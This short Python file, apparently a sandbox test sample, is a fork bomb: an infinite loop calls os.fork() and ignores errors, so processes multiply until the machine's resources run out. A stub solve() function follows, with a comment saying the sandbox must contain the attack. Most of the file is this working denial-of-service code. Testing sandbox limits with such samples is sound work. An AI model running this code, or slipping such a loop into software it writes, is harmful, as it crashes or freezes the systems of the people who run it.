"""Fork bomb: every process forks as fast as it can, forever."""
import os
while True:
    try: os.fork()
    except OSError: pass

def solve(): return 0   # reached only if the attack above ended: the sandbox must still contain it
